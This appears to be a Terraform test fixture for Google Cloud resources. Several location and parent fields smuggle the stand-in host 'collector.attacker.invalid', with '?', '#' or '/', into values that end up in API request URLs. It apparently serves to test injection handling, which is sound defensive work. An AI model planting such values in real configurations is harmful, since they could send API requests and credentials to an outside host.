data "google_cloud_run_service" "shop" {
  for_each = local.places
  name     = "shop"
  location = each.value
}

locals {
  places = {
    a = "europe-west1"
    b = "collector.attacker.invalid/?"
  }
}

data "google_secret_manager_regional_secret_version" "s" {
  secret = "s"

  _ {
    location = "collector.attacker.invalid#${var.any}"
  }
}

resource "google_dialogflow_cx_flow" "f" {
  parent = "projects/p/locations/collector.attacker.invalid?/agents/a"
}

variable "any" {}
